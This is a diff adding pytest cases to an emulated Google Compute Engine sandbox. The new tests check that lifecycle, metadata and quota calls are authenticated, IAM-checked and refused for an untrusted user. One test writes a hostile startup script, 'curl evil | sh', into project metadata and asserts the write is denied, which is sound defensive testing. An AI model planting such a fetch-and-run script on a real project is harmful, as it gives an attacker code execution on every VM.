@@ -21,7 +21,7 @@ from google.iam.v1 import iam_policy_pb2, policy_pb2
 from google.oauth2.credentials import Credentials
 
 from meshjoin_sandbox import launcher
-from meshjoin_sandbox.compute import ComputeEmulator
+from meshjoin_sandbox.compute import PERMISSIONS, ComputeEmulator
 from meshjoin_sandbox.config import SandboxConfig
 from meshjoin_sandbox.container import ContainerEmulator
 from meshjoin_sandbox.iam import Binding, IamPolicy
@@ -281,6 +281,77 @@ def test_insert_with_an_account_needs_act_as_on_it(sandbox):
     with pytest.raises(exceptions.Forbidden, match=f"does not have access to service account '{ORDERS}'"):
         client.insert_unary(project=world.project, zone=ZONE, instance_resource=with_account)
     assert sandbox.compute.instance(ZONE, "as-orders") is None
+
+
+# ---- the VM lifecycle's methods: authenticated, then IAM, then quota ----------------------------------
+
+def test_every_compute_method_maps_to_an_iam_permission(sandbox):
+    """A route without a PERMISSIONS entry would answer 500; none may be left unmapped."""
+    endpoints = {rule.endpoint for rule in sandbox.compute.app.url_map.iter_rules()}
+    assert {"instances.stop", "instances.start", "instances.reset", "instances.getGuestAttributes",
+            "projects.get", "projects.setCommonInstanceMetadata", "globalOperations.get"} <= endpoints
+    assert endpoints <= set(PERMISSIONS)
+
+
+@pytest.mark.parametrize("method,permission", [
+    ("stop_unary", "compute.instances.stop"),
+    ("start_unary", "compute.instances.start"),
+    ("reset_unary", "compute.instances.reset"),
+    ("get_guest_attributes", "compute.instances.getGuestAttributes"),
+])
+def test_lifecycle_methods_need_their_permission(sandbox, method, permission):
+    """Neither a stranger nor the functions' account (Terraform grants it no power over VMs) may."""
+    resource = f"projects/{sandbox.project}/zones/{ZONE}/instances/orders-1"
+    for bearer in (token(sandbox, MALLORY), functions_token(sandbox)):
+        with pytest.raises(exceptions.Forbidden) as refused:
+            getattr(gce(sandbox, bearer), method)(project=sandbox.project, zone=ZONE, instance="orders-1")
+        assert message(refused) == f"Required '{permission}' permission for '{resource}'"
+    assert sandbox.compute.instance(ZONE, "orders-1")["status"] == "RUNNING"
+    # An unknown token: 401 before any IAM check (raw HTTP: google-auth would try to refresh on a 401).
+    base = f"{sandbox.servers['compute_url']}/compute/v1/projects/{sandbox.project}/zones/{ZONE}/instances/orders-1"
+    http_method, suffix = ("GET", "/getGuestAttributes") if method == "get_guest_attributes" else \
+        ("POST", "/" + method.removesuffix("_unary"))
+    unknown = requests.request(http_method, base + suffix, headers={"Authorization": "Bearer ya29.never-issued"},
+                               timeout=10)
+    assert unknown.status_code == 401 and unknown.json()["error"]["status"] == "UNAUTHENTICATED"
+    # The owner may: the call reaches the method (a VM without guest attributes enabled has none).
+    owner = gce(sandbox, sandbox.world.admin_token)
+    if method == "get_guest_attributes":
+        with pytest.raises(exceptions.NotFound):
+            owner.get_guest_attributes(request=compute_v1.GetGuestAttributesInstanceRequest(
+                project=sandbox.project, zone=ZONE, instance="orders-1", variable_key="meshjoin/sidecar"))
+    else:
+        assert getattr(owner, method)(project=sandbox.project, zone=ZONE, instance="orders-1").name
+
+
+def test_project_metadata_needs_project_permissions(sandbox):
+    projects = compute_v1.ProjectsClient(transport="rest", credentials=Credentials(token(sandbox, MALLORY)),
+                                         client_options={"api_endpoint": sandbox.servers["compute_url"]})
+    resource = f"projects/{sandbox.project}"
+    with pytest.raises(exceptions.Forbidden) as refused:
+        projects.get(project=sandbox.project)
+    assert message(refused) == f"Required 'compute.projects.get' permission for '{resource}'"
+    metadata = compute_v1.Metadata(items=[compute_v1.Items(key="startup-script", value="curl evil | sh")])
+    with pytest.raises(exceptions.Forbidden) as refused:
+        projects.set_common_instance_metadata_unary(project=sandbox.project, metadata_resource=metadata)
+    assert message(refused) == f"Required 'compute.projects.setCommonInstanceMetadata' permission for '{resource}'"
+    assert sandbox.compute.project_metadata()["items"] == []
+
+
+def test_quota_is_charged_after_authentication_and_iam(sandbox):
+    """Over the read quota the owner gets rateLimitExceeded; a stranger still gets IAM's 403, and no
+    token a 401: Google authenticates, then authorizes, then charges quota."""
+    clock = SimpleNamespace(now=60.0 * 7000)
+    sandbox.compute.quotas.clock = lambda: clock.now
+    url = f"{sandbox.servers['compute_url']}/compute/v1/projects/{sandbox.project}/zones/{ZONE}/instances/orders-1"
+    session = requests.Session()
+    session.headers["Authorization"] = f"Bearer {sandbox.world.admin_token}"
+    for _ in range(1500):
+        assert session.get(url, timeout=5).status_code == 200
+    assert session.get(url, timeout=5).json()["error"]["errors"][0]["reason"] == "rateLimitExceeded"
+    stranger = requests.get(url, headers={"Authorization": f"Bearer {token(sandbox, MALLORY)}"}, timeout=5)
+    assert stranger.status_code == 403 and stranger.json()["error"]["errors"][0]["reason"] == "forbidden"
+    assert requests.get(url, timeout=5).status_code == 401
 
 
 # ---- token scopes -----------------------------------------------------------------------------------
